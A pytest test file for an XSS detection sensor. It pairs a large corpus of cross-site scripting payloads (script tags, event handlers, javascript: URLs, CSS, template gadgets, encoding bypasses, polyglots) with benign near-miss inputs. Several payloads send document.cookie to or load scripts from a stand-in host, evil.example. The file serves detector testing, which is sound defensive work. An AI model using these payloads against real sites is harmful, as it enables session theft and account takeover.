"""Cross-site scripting written by other people (cheat sheets, polyglots, bug-bounty vectors) beside benign near-misses."""
from __future__ import annotations

import base64
import json
import time
import urllib.parse

import pytest

from sensor.detect import THRESHOLD, verdict, xss
from sensor.detect.rawrequest import RawRequest
from tests.detect.conftest import req

_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"
_FORM = [("Content-Type", "application/x-www-form-urlencoded")]


def _q(v: str) -> str:
    return urllib.parse.quote(v, safe="")


def _multipart(v: str) -> tuple[list[tuple[str, str]], bytes]:
    b = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
    body = (f"--{b}\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n{v}\r\n--{b}--\r\n").encode()
    return [("Content-Type", f"multipart/form-data; boundary={b}")], body


def build(carrier: str, v: str) -> RawRequest:
    """One request carrying `v` the way a browser, an API client or a proxy would send it."""
    if carrier == "q":
        return req("/search?q=" + _q(v) + "&page=1", headers=[("User-Agent", _UA)])
    if carrier == "q2":  # double percent encoding: the app decodes once more
        return req("/search?q=" + _q(_q(v)))
    if carrier == "qraw":  # what curl sends when the tester does not encode
        return req("/item?id=7&ref=" + v.replace(" ", "%20").replace("#", "%23").replace("&", "%26"))
    if carrier == "form":
        return req("/comment", "POST", headers=_FORM, body=("author=Ann&body=" + _q(v)).encode())
    if carrier == "json":
        return req("/api/v2/profile", "PUT", headers=[("Content-Type", "application/json")],
                   body=json.dumps({"user": {"id": 42, "bio": v, "tags": ["a", v]}}).encode())
    if carrier == "jsonu":  # JSON with every markup character \u-escaped, as some serialisers emit it
        body = json.dumps({"data": {"title": v}})
        for c in "<>&'":
            body = body.replace(c, "\\u%04x" % ord(c))
        return req("/api/posts", "POST", headers=[("Content-Type", "application/json")], body=body.encode())
    if carrier == "cookie":
        return req("/", headers=[("Cookie", "sid=9f8e7d6c; last_search=" + _q(v))])
    if carrier == "ua":
        return req("/", headers=[("User-Agent", v)])
    if carrier == "referer":
        return req("/", headers=[("Referer", v)])
    if carrier == "xff":
        return req("/", headers=[("X-Forwarded-For", v)])
    if carrier == "hdr":
        return req("/", headers=[("X-Client-Note", v)])
    if carrier == "path":
        return req("/profile/" + _q(v) + "/view")
    if carrier == "multipart":
        hs, body = _multipart(v)
        return req("/upload", "POST", headers=hs, body=body)
    if carrier == "xml":
        esc = v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        return req("/soap", "POST", headers=[("Content-Type", "application/xml")],
                   body=f"<?xml version=\"1.0\"?><note><body>{esc}</body></note>".encode())
    if carrier == "pname":  # the payload as a parameter *name*
        return req("/search?" + _q(v) + "=1&page=2")
    if carrier == "next":  # a redirect target
        return req("/login?next=" + _q(v))
    if carrier == "filename":
        b = "----rampartb0undary"
        body = (f"--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{v}\"\r\n"
                f"Content-Type: image/png\r\n\r\n\x89PNG\r\n--{b}--\r\n").encode()
        return req("/avatar", "POST", headers=[("Content-Type", f"multipart/form-data; boundary={b}")], body=body)
    if carrier == "xmlattr":
        esc = v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
        return req("/feed", "POST", headers=[("Content-Type", "text/xml")], body=f'<item title="{esc}">x</item>'.encode())
    if carrier == "origin":
        return req("/api/cart", "POST", headers=[("Origin", v), ("Content-Type", "application/json")], body=b"{}")
    if carrier == "graphql":
        q = "mutation { addComment(postId: 7, body: " + json.dumps(v) + ") { id } }"
        return req("/graphql", "POST", headers=[("Content-Type", "application/json")], body=json.dumps({"query": q}).encode())
    if carrier == "b64":  # an app that base64-decodes a state parameter
        return req("/cb?state=" + _q(base64.b64encode(v.encode()).decode()))
    raise ValueError(carrier)


_B64_SCRIPT = base64.b64encode(b"<script>alert(document.domain)</script>").decode()
_B64_SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode()

# --- attacks: (carrier, payload)
SCRIPT_TAGS = [
    ("q", "<script>alert(1)</script>"),
    ("form", "<ScRiPt>alert(document.domain)</sCrIpT>"),
    ("json", "<scr\x00ipt>alert(1)</script>"),
    ("q", "<script\x00>alert(1)</script>"),
    ("form", "<script\n>alert(1)</script>"),
    ("q", "<script/src=//evil.example/x.js></script>"),
    ("cookie", "<script/x>alert(1)</script>"),
    ("q", "\"><script src=https://evil.example/x.js>"),
    ("form", "<<script>alert(1);//<</script>"),
    ("json", "<script\t>prompt(1)</script>"),
    ("qraw", "<SCRIPT SRC=//ha.ckers.example/.j>"),
    ("q", "<script>alert`1`</script>"),
    ("q2", "<script>alert(1)</script>"),
    ("form", "<script\x0c>confirm(1)</script>"),
    ("q", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("json", "<script type=\"text/javascript\">fetch('//evil.example/?c='+document.cookie)</script>"),
    ("multipart", "<svg><script>alert&#40;1&#41;</script>"),
    ("xml", "<script>\\u0061lert(1)</script>"),
    ("q", "<script>\nalert(1)\n</script"),
    ("hdr", "<script >document.location='//evil.example/'+document.cookie</script >"),
    ("path", "<script>alert(1)</script>"),
    ("q", "<script\r\nsrc=//evil.example/a.js>"),
]

EVENT_HANDLERS = [
    ("q", "<img src=x onerror=alert(1)>"),
    ("form", "<img src=x onerror=\"alert(1)\">"),
    ("json", "<body onload=alert(1)>"),
    ("q", "<svg onload=alert(1)>"),
    ("q", "<svg/onload=alert(1)>"),
    ("cookie", "<img/src/onerror=alert(1)>"),
    ("form", "<img src=x\nonerror=alert(1)>"),
    ("form", "<img src=x\tonerror=alert(1)>"),
    ("form", "<img src=x\x0conerror=alert(1)>"),
    ("q", "<details open ontoggle=alert(1)>"),
    ("json", "<div onpointerrawupdate=alert(1)>move</div>"),
    ("q", "<button popovertarget=x>go</button><div popover id=x onbeforetoggle=alert(1)>p</div>"),
    ("form", "<style>@keyframes x{}</style><xss style=\"animation-name:x\" onanimationstart=\"alert(1)\"></xss>"),
    ("q", "<a onfocusin=alert(1) autofocus tabindex=1>x</a>"),
    ("multipart", "<input autofocus onfocus=alert(1)>"),
    ("q", "<video><source onerror=\"alert(1)\">"),
    ("json", "<audio src=x onerror=alert(1)>"),
    ("q", "<marquee onstart=alert(1)>x</marquee>"),
    ("form", "<xss id=x tabindex=1 onfocus=alert(1)></xss>"),
    ("q", "<x onclick=alert(1)>click me"),
    ("json", "<a href=# onmouseover=\"alert(1)\">hover</a>"),
    ("q", "<body onpageshow=alert(1)>"),
    ("qraw", "<iframe onload=alert(1)>"),
    ("q", "<select autofocus onfocus=alert(1)>"),
    ("form", "<textarea autofocus onfocus=alert(1)>"),
    ("q", "<keygen autofocus onfocus=alert(1)>"),
    ("json", "<img src=1 oNeRrOr=alert(1)>"),
    ("q", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"),
    ("q", "<div oncontentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto>"),
    ("form", "<body onscrollend=alert(1)><div style=height:5000px></div>"),
    ("q", "<div onwebkitanimationend=alert(1) style=animation:x>"),
    ("json", "<a id=x tabindex=1 onbeforeinput=alert(1) contenteditable>edit</a>"),
    ("q", "<form onformdata=alert(1)><button>x</button></form>"),
    ("form", "<img src onerror=eval(atob('YWxlcnQoMSk='))>"),
    ("q", "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>"),
    ("q", "<img srcset=\",,,,,x\" onerror=alert(1)>"),
    ("json", "<frameset onload=alert(1)>"),
    ("q", "<input type=image src=x onerror=alert(1)>"),
    ("form", "<image src=x onerror=alert(1)>"),
    ("q", "<x contenteditable onblur=alert(1)>lose focus!"),
    ("q", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    ("cookie", "<svg onload\x0c=alert(1)>"),
    ("q", "<img src=`x`onerror=`alert(1)`>"),
    ("json", "<a onauxclick=alert(1)>right click</a>"),
    ("q", "<custom-tag onpointerdown=alert(1)>tap</custom-tag>"),
    ("q", "<img src=x onerror=window['al'+'ert'](1)>"),
    ("form", "<svg><g onload=alert(1)></g></svg>"),
    ("q", "<video controls onvolumechange=alert(1)><source src=x></video>"),
    ("q", "<body onhashchange=alert(1)><a href=#x>x</a>"),
]

ATTRIBUTE_BREAKOUTS = [
    ("q", "\" onmouseover=\"alert(1)"),
    ("form", "' onfocus='alert(1)' autofocus='"),
    ("q", "\" autofocus onfocus=alert(1) x=\""),
    ("json", "\"onfocusin=alert(1) autofocus tabindex=1 \""),
    ("q", "x\"/onpointerenter=alert(1)//"),
    ("form", "\" style=\"animation-name:rotation\" onanimationstart=\"alert(1)"),
    ("q", "\"><img src=x onerror=alert(1)>"),
    ("cookie", "'><svg/onload=alert(1)>"),
    ("q", "`onmouseover=alert(1)"),
    ("json", "\"\tonpointerover=alert(1)\t\""),
    ("q", "\"\nonmouseenter=prompt(1)//"),
    ("hdr", "\" onload=\"fetch('//evil.example/'+document.cookie)"),
    ("q", "\"/onbeforetoggle=alert(1)/popover/id=x\""),
]

SCRIPT_URLS = [
    ("q", "javascript:alert(1)"),
    ("form", "JaVaScRiPt:alert(1)"),
    ("json", "java\tscript:alert(1)"),
    ("q", "java\nscript:alert(1)"),
    ("q", "&#106;avascript:alert(1)"),
    ("form", "&#x6A;avascript:alert(1)"),
    ("q", "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)"),
    ("q", "javascript&colon;alert(1)"),
    ("json", "  javascript:alert(document.cookie)"),
    ("q", "\x01javascript:alert(1)"),
    ("form", "vbscript:msgbox(\"xss\")"),
    ("q", "data:text/html;base64," + _B64_SCRIPT),
    ("q", "data:text/html,<script>alert(1)</script>"),
    ("json", "data:image/svg+xml;base64," + _B64_SVG),
    ("q", "<a href=\"javascript:alert(1)\">x</a>"),
    ("form", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
    ("q", "<a href=\"&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)\">x</a>"),
    ("json", "<form action=javascript:alert(1)><input type=submit>"),
    ("q", "<form><button formaction=javascript:alert(1)>X</button></form>"),
    ("q", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>"),
    ("form", "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>"),
    ("q", "<iframe src=\"javascript:alert(1)\"></iframe>"),
    ("json", "<object data=\"javascript:alert(1)\">"),
    ("q", "<object data=\"data:text/html;base64," + _B64_SCRIPT + "\"></object>"),
    ("form", "<embed src=\"data:image/svg+xml;base64," + _B64_SVG + "\">"),
    ("q", "<embed src=//evil.example/x.swf>"),
    ("q", "<base href=\"//evil.example/\">"),
    ("json", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("q", "<meta http-equiv=refresh content=\"0; url=data:text/html;base64," + _B64_SCRIPT + "\">"),
    ("q", "<link rel=import href=\"//evil.example/x.html\">"),
    ("form", "<svg><a><set attributeName=href to=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>"),
    ("q", "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>go</text></a></svg>"),
    ("json", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click<mtext>x</mtext></maction></math>"),
    ("q", "<math href=\"javascript:alert(1)\">click</math>"),
    ("q", "<isindex action=javascript:alert(1) type=image>"),
    ("form", "<a href=\"javas&#99;ript:alert(1)\">x</a>"),
    ("q", "<img src=\"jav&#x0A;ascript:alert(1)\">"),
    ("q", "<a href=\"javascript&#58;alert(1)\">x</a>"),
    ("json", "<a href=\"java&Tab;script&colon;alert(1)\">x</a>"),
    ("q", "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>"),
    ("q", "<a href=\"data:text/html;base64," + _B64_SCRIPT + "\">x</a>"),
    ("form", "<iframe src=data:text/html,%3Cscript%3Ealert(1)%3C/script%3E></iframe>"),
    ("q", "<table background=\"javascript:alert(1)\">"),
    ("q", "<img dynsrc=\"javascript:alert(1)\">"),
    ("form", "<applet code=\"javascript:alert(1)\"></applet>"),
    ("q", "<object type=\"text/x-scriptlet\" data=\"//evil.example/x.sct\"></object>"),
    ("json", "<svg><use href=\"data:image/svg+xml;base64," + _B64_SVG + "#x\"/></svg>"),
    ("cookie", "javascript:fetch('//evil.example/?'+document.cookie)"),
    ("q", "jav&#x61;script:alert(1)"),
    ("q", "javascript://%0aalert(1)"),
    ("form", "javascript://comment%0Aalert(document.domain)"),
    ("q", "<iframe srcdoc=\"<script>alert(1)</script>\">"),
    ("q", "<a href=\"\x0bjavascript:alert(1)\">x</a>"),
    ("q", "<svg><image xlink:href=\"javascript:alert(1)\"/></svg>"),
]

CSS_VECTORS = [
    ("q", "<div style=\"width:expression(alert(1))\">"),
    ("form", "<div style=\"-moz-binding:url(//evil.example/xss.xml#xss)\">"),
    ("q", "<div style=\"behavior:url(xss.htc)\">"),
    ("json", "<style>@import 'http://evil.example/xss.css';</style>"),
    ("q", "<style>body{background:url(\"javascript:alert(1)\")}</style>"),
    ("q", "<div style=\"background-image:url(javascript:alert(1))\">"),
    ("form", "\" style=\"x:expression(alert(1))"),
    ("q", "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style>"),
    ("q", "<div style=\"xss:expr/**/ession(alert(1))\">"),
    ("json", "<div style=\"x:\\65xpression(alert(1))\">"),
    ("q", "body{-moz-binding:url(\"//evil.example/xbl.xml#x\")}"),
    ("q", "@import url(//evil.example/x.css);"),
    # a web-font service's host spelled inside another host, or as the user part of one, or beside a second import
    ("form", "@import url('https://fonts.googleapis.com.evil.example/x.css');"),
    ("form", "@import url('https://fonts.googleapis.com@evil.example/x.css');"),
    ("form", "@import url('https://fonts.googleapis.com/css2?family=Roboto');@import url(//evil.example/x.css);"),
    ("form", "<style>@\\69mport url(//evil.example/x.css)</style>"),
]

TEMPLATES = [
    ("q", "{{constructor.constructor('alert(1)')()}}"),
    ("form", "{{$on.constructor('alert(1)')()}}"),
    ("json", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)');}}"),
    ("q", "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}"),
    ("q", "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;[\"a\",\"alert(1)\"].sort(toString.constructor)}}"),
    ("form", "{{[].pop.constructor('alert(1)')()}}"),
    ("q", "{{$eval.constructor('alert(1)')()}}"),
    ("json", "{{_c.constructor('alert(1)')()}}"),
    ("q", "{{'a'.constructor.fromCharCode=[].join.constructor;'a'.constructor.fromCharCode(97,108)}}"),
    ("cookie", "{{constructor.constructor('fetch(`//evil.example/`+document.cookie)')()}}"),
    ("q", "<div ng-app>{{$new.constructor('alert(1)')()}}</div>"),
]

JS_CONTEXT = [
    ("q", "'-alert(1)-'"),
    ("form", "\";alert(1)//"),
    ("q", "\\\";alert(1);//"),
    ("json", "'};alert(1);//"),
    ("q", "</script><script>alert(1)</script>"),
    ("q", "${alert(1)}"),
    ("form", "`${alert(document.domain)}`"),
    ("q", "';alert(String.fromCharCode(88,83,83))//"),
    ("q", "\"-confirm(1)-\""),
    ("json", "'+prompt(1)+'"),
    ("q", "x');alert(1);//"),
    ("q", "alert`1`"),
    ("form", "top['al'+'ert'](1)"),
    ("q", "window['alert'](document.domain)"),
    ("json", "self[atob('YWxlcnQ=')](1)"),
    ("q", "[].constructor.constructor('alert(1)')()"),
    ("q", "location=name"),
    ("form", "location='javas'+'cript:alert(1)'"),
    ("q", "location.href='//evil.example/?'+document.cookie"),
    ("json", "new Image().src='//evil.example/c?'+document.cookie"),
    ("q", "fetch('//evil.example/?c='+document.cookie)"),
    ("q", "navigator.sendBeacon('//evil.example',document.cookie)"),
    ("form", "setTimeout('alert(1)')"),
    ("q", "setTimeout`alert\\x281\\x29`"),
    ("q", "eval('al'+'ert(1)')"),
    ("json", "Function('alert(1)')()"),
    ("q", "onerror=alert;throw 1"),
    ("q", "\\u0061lert(1)"),
    ("form", "eval('\\x61lert(1)')"),
    ("q", "import('//evil.example/x.js')"),
    ("q", "globalThis['ale'+'rt'](1)"),
    ("json", "\"};alert(1);{\""),
    ("q", "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"),
    ("form", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"),
    ("q", "';document.location='//evil.example/?'+document.cookie;//"),
    ("cookie", "\";new Image().src=\"//evil.example/?\"+document.cookie;//"),
    ("q", "'-setTimeout`alert\\u00281\\u0029`-'"),
    ("json", "');[1].find(alert);//"),
    ("q", "\"+(alert)(1)+\""),
    ("q", "'-(window.opener.location='//evil.example')-'"),
    ("q", "</textarea><script>alert(1)</script>"),
    ("form", "</title><svg onload=alert(1)>"),
    ("q", "--><img src=x onerror=alert(1)>"),
    ("q", "<!--<img src=\"--><img src=x onerror=alert(1)//\">"),
    ("json", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("q", "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">"),
    ("q", "'-eval(name)-'"),
    ("form", "\";document.body.innerHTML='<img src=x onerror=alert(1)>';//"),
    ("q", "Reflect.apply(alert,null,[1])"),
]

ENCODINGS = [
    ("form", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("q", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("jsonu", "<script>alert(1)</script>"),
    ("jsonu", "<img src=x onerror=alert(1)>"),
    ("q", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"),
    ("q", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("q", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("form", "+ADw-img src=x onerror=alert(1)+AD4-"),
    ("qraw", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("q", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("q", "&#60;img src=x onerror=alert(1)&#62;"),
    ("json", "&#x3C;svg onload=alert(1)&#x3E;"),
    ("b64", "<script>alert(1)</script>"),
    ("b64", "<svg/onload=alert(document.cookie)>"),
    ("q2", "\"><svg/onload=alert(1)>"),
    ("q", "&lt;img src=x onerror=alert(1)&gt;"),
    ("xml", "<img src=x onerror=alert(1)>"),
    ("multipart", "\"><img src=x onerror=prompt(1)>"),
    ("q", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("q", "\\u003Cscript\\u003Ealert(1)\\u003C/script\\u003E"),
]

HEADERS = [
    ("ua", "Mozilla/5.0 <script>alert(1)</script>"),
    ("ua", "\"><img src=x onerror=alert(1)>"),
    ("ua", "Mozilla/5.0 (X11) '-alert(document.domain)-'"),
    ("referer", "https://shop.example/?q=<script>alert(1)</script>"),
    ("referer", "https://shop.example/\"><svg onload=alert(1)>"),
    ("referer", "javascript:alert(document.cookie)"),
    ("xff", "<svg onload=alert(1)>"),
    ("xff", "1.2.3.4\"><script src=//evil.example/x.js></script>"),
    ("hdr", "<img src=x onerror=alert(1)>"),
    ("ua", "<svg/onload=fetch('//evil.example/'+document.cookie)>"),
]

# Structures found beyond the first round: sinks passed as values, computed global access, long UTF-7 runs,
# framework script gadgets, and carriers that are not plain parameters.
MORE = [
    ("q", "alert?.(1)"),
    ("form", "(alert)(document.domain)"),
    ("q", "(0,alert)(1)"),
    ("json", "[1].map(alert)"),
    ("q", "Promise.resolve(1).then(alert)"),
    ("q", "Array.from([1],alert)"),
    ("form", "{onerror=alert}throw 1"),
    ("q", "x=alert;x(1)"),
    ("q", "a=confirm,a(document.cookie)"),
    ("json", "Function.prototype.call.call(alert,null,1)"),
    ("q", "Reflect.apply(prompt,null,[1])"),
    ("q", "content['alert'](1)"),
    ("form", "top[/al/.source+/ert/.source](1)"),
    ("q", "top[8680439..toString(30)](1)"),
    ("q", "self[\"\\x61\\x6c\\x65\\x72\\x74\"](self[\"\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74\"][\"\\x63\\x6f\\x6f\\x6b\\x69\\x65\"])"),
    ("json", "window[\"document\"][\"cookie\"]"),
    ("q", "parent['ev'+'al'](name)"),
    ("q", "$.getScript('//evil.example/x.js')"),
    ("q", "+ADwAcwBjAHIAaQBwAHQAPgBhAGwAZQByAHQAKAAxACkAPAAvAHMAYwByAGkAcAB0AD4-"),
    ("form", "+ACIAPgA8-svg onload+AD0-alert(1)+AD4-"),
    ("q", "<div hx-get=\"//evil.example/x\" hx-trigger=\"load\" hx-swap=\"outerHTML\"></div>"),
    ("json", "<button hx-on:click=\"alert(document.domain)\">x</button>"),
    ("q", "<div x-data x-init=\"alert(1)\"></div>"),
    ("form", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("q", "<div ng-init=\"constructor.constructor('alert(1)')()\"></div>"),
    ("q", "<x data-bind=\"html: '<img src=x onerror=alert(1)>'\">"),
    ("json", "<div datafld=\"b\" dataformatas=\"html\" datasrc=\"#X\"></div>"),
    ("referer", "https://evil.example/?'-alert(1)-'"),
    ("referer", "https://evil.example/\";alert(document.cookie);//"),
    ("pname", "<script>alert(1)</script>"),
    ("pname", "\"><svg onload=alert(1)>"),
    ("filename", "<svg onload=alert(1)>.png"),
    ("xmlattr", "<svg onload=alert(1)>"),
    ("xmlattr", "javascript:alert(1)"),
    ("origin", "https://x.example\"><svg onload=alert(1)>"),
    ("graphql", "<img src=x onerror=alert(1)>"),
    ("next", "javascript:alert(document.domain)"),
    ("next", "javascript://%0aalert(1)"),
    ("next", "/home#'-alert(1)-'"),
    ("next", "data:text/html;base64," + _B64_SCRIPT),
    ("b64", "{\"return\":\"<svg onload=alert(1)>\"}"),
    ("json", "data:image/svg+xml;base64," + base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>").decode()),
    ("q", "<img src=\"mocha:[code]\">"),
    ("q", "<img src=\"//evil.example/account/delete.php?confirm=1\">"),
    # Markdown destinations a forum renders as links, CSS escapes in a style attribute, an XSLT processing instruction
    ("form", "[click me](javascript:alert(document.cookie))"),
    ("json", "[a]( JaVaScRiPt:alert(1))"),
    ("form", "[a](vbscript:msgbox(1))"),
    ("form", "[a](data:text/html;base64," + _B64_SCRIPT + ")"),
    ("json", "![a](javascript&#58;alert(1))"),
    ("form", "[![img](/a.png)](javascript:alert(1))"),
    ("form", "Docs\n\n[ref]: javascript:alert(1)\n"),
    ("form", "<javascript:alert(1)>"),
    ("q", "<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0031\\0029'\\0029\">"),
    ("q", "<p style=\"x:\\65 xpression(alert(1))\">"),
    ("xml", "<?xml-stylesheet type=\"text/xsl\" href=\"//evil.example/x.xsl\"?><r/>"),
    # JS-string breakouts that assign a global property instead of calling a sink; encoder signatures
    ("q", "\"in valueOf=alert//"),
    ("form", "\"-(onerror=alert)-\""),
    ("q", "'-top.location='//evil.example'-'"),
    ("json", "\"+location=\"//evil.example\"+\""),
    ("q", "'-(document.body.innerHTML='<b>x</b>')-'"),
    ("q", "$=~[];$={___:++$,$$$$:(![]+\"\")[$]};"),
    ("form", "\uff9f\u03c9\uff9f\uff89= /\uff40\uff4d\u00b4\uff09\uff89 ~\u253b\u2501\u253b   //*\u00b4\u2207\uff40*/ ['_'];"),
]

ATTACKS = (SCRIPT_TAGS + EVENT_HANDLERS + ATTRIBUTE_BREAKOUTS + SCRIPT_URLS + CSS_VECTORS + TEMPLATES + JS_CONTEXT
           + ENCODINGS + HEADERS + MORE)

# --- benign near-misses: (carrier, value)
BENIGN = [
    # prose and maths with angle brackets
    ("q", "a < b > c"), ("q", "if x<y and y>z then swap"), ("form", "I <3 this product"), ("form", "<3 <3 <3"),
    ("form", "login --> dashboard --> settings"), ("q", "step 1 -> step 2 --> done"), ("q", "x<y"),
    ("form", "temperature <-5 C at night"), ("q", "price<100"), ("q", "0 <= i < n"),
    ("form", "Tom & Jerry <3"), ("form", "quality >>> quantity"), ("q", "a<b<c"), ("form", "=> arrow <= back"),
    ("form", "John Doe <john.doe@example.com>"), ("form", "see <https://example.com/docs> for details"),
    ("form", "Re: <ticket #123> still open"), ("form", "Hello <insert name here>, welcome!"),
    ("q", "price < $50 & rating > 4"), ("form", "Tom &amp; Jerry &copy; 2024"),
    ("q", "R&D budget"), ("q", "AT&T plans"), ("form", "broken heart </3 :("),
    ("form", ">_< so annoying"), ("form", "<:o) party"), ("form", ":-< sad"), ("form", "^_^ thanks!"),
    ("form", "flow: cart --> checkout --> paid"),
    # rich text a CMS accepts
    ("form", "<b>bold</b> text"), ("form", "<p class=\"intro\">Welcome to our shop</p>"),
    ("form", "<a href=\"https://example.com/docs\">docs</a>"),
    ("json", "<img src=\"/images/a.png\" alt=\"Red shoes\">"),
    ("json", "<img src=\"https://cdn.example.com/p/123.jpg\" alt=\"Product photo\" width=\"300\" height=\"200\">"),
    ("form", "<ul><li>One</li><li>Two</li></ul>"), ("form", "<h2>Shipping</h2><p>Free over $50</p>"),
    ("form", "<blockquote>Great service</blockquote>"), ("form", "<em>really</em> <strong>good</strong>"),
    ("json", "<span style=\"color:#ff0000\">red</span>"), ("form", "<table><tr><td>1</td></tr></table>"),
    ("form", "line one<br>line two<hr/>"), ("form", "<code>x &lt; y</code>"),
    ("json", "<p>Hello <a href=\"https://example.com\" target=\"_blank\" rel=\"noopener\">world</a></p>"),
    ("json", "<p style=\"text-align:center\"><img src=\"/media/banner.jpg\" alt=\"Summer sale\"></p>"),
    ("json", "<a href=\"/products/shoes?color=red\" title=\"Red shoes\">shoes</a>"),
    ("json", "<a href=\"mailto:help@example.com\">email us</a>"),
    ("form", "<div class=\"note\"><p>Note: read the <a href=\"/faq\">FAQ</a></p></div>"),
    ("json", "<figure><img src=\"/a.png\" alt=\"diagram\"><figcaption>Fig 1</figcaption></figure>"),
    # markdown
    ("form", "**bold** and _italics_ [link](https://example.com)"),
    ("form", "![alt text](https://cdn.example.com/img.png \"title\")"),
    ("form", "# Heading\n\n- item one\n- item two"), ("form", "> quoted text\n\nreply"),
    ("form", "use `git status` first"),
    ("form", "[docs](/docs/onload-events)"),
    # words in a search box
    ("q", "onload"), ("q", "onload event explained"), ("q", "how does onerror work"), ("q", "javascript tutorial"),
    ("q", "javascript: the good parts"), ("q", "learn javascript: basics"), ("q", "alert level 3"),
    ("q", "red alert"), ("q", "prompt engineering"), ("q", "prompt engineering guide"),
    ("q", "document.cookie explained"), ("q", "what is document.cookie"), ("q", "window.location vs document.location"),
    ("form", "confirm order"), ("q", "eval results 2024"), ("q", "the constructor pattern"),
    ("q", "settimeout vs setinterval"), ("q", "import from csv"), ("q", "expression of interest form"),
    ("form", "behavior: excellent"), ("form", "location: London"), ("q", "top 10 alerts"),
    ("q", "onclick handler react"), ("q", "onerror attribute"), ("q", "on-call schedule"), ("form", "onboarding=true"),
    ("q", "Confirm (yes/no)"), ("q", "how to use fetch api"),
    ("q", "innerHTML vs textContent"), ("q", "vbscript tutorial"), ("q", "data: 2024 report"),
    ("q", "what is xss"), ("q", "script writing course"),
    # CSS colours and styles
    ("q", "#ff0000"), ("form", "rgb(255, 0, 0)"), ("form", "color: red; background: url(/img/bg.png)"),
    ("form", "hsl(120, 100%, 50%)"), ("form", "background:url(\"/a.png\") no-repeat"),
    ("json", "font-family: 'Helvetica Neue', Arial; color: #333"),
    # code-like search queries
    ("q", "x => x * 2"), ("q", "arr.map(x => x+1)"),
    ("q", "document.getElementById"),
    ("q", "React.useEffect(() => {}, [])"), ("form", "{{ user.name }}"), ("form", "{{ 'hello' | upper }}"),
    ("form", "Hello {{name}}, your order {{order_id}} shipped"), ("q", "${price}"), ("q", "List<String>"),
    ("q", "Map<String, List<Integer>>"), ("q", "vector<int>"), ("q", "std::vector<std::string>"),
    ("q", "Array<{id: number}>"), ("q", "template literal `${name}`"),
    # names, ids, urls, tokens
    ("form", "O'Brien"), ("form", "D'Angelo & Sons"), ("q", "john.doe@example.com"),
    ("q", "https://example.com/path?x=1&y=2"), ("form", "mailto:x@example.com"), ("form", "tel:+441234567890"),
    ("json", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="),
    ("cookie", "dark"), ("cookie", "GA1.2.1234567890.1700000000"), ("q", "SKU-ONL-3390"),
    ("ua", _UA), ("ua", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"),
    ("referer", "https://www.google.com/search?q=javascript+tutorial"),
    ("referer", "https://shop.example/cart?step=2&coupon=SAVE10"),
    ("referer", "https://forum.example/t/onload-vs-domcontentloaded/123"),
    ("json", "{\"on\": true, \"off\": false}"), ("q", "online=1"), ("hdr", "order <1234> ready"),
    # beside the sink-reference, global-access, template, CSS and import rules
    ("q", "(alert)"), ("q", "alert, warning, info"), ("q", "level:alert"), ("form", "type=alert"),
    ("form", "status=alert; priority=high (urgent)"), ("form", "Click the bell (alert) icon to subscribe"),
    ("q", "this['key']"), ("q", "self['name']"), ("q", "window['myVar'] = 1"), ("q", "top['x']"), ("q", "frames[0]"),
    ("q", "arr.filter(Boolean)"), ("q", "promise.then(console.log)"), ("q", "x = confirm"),
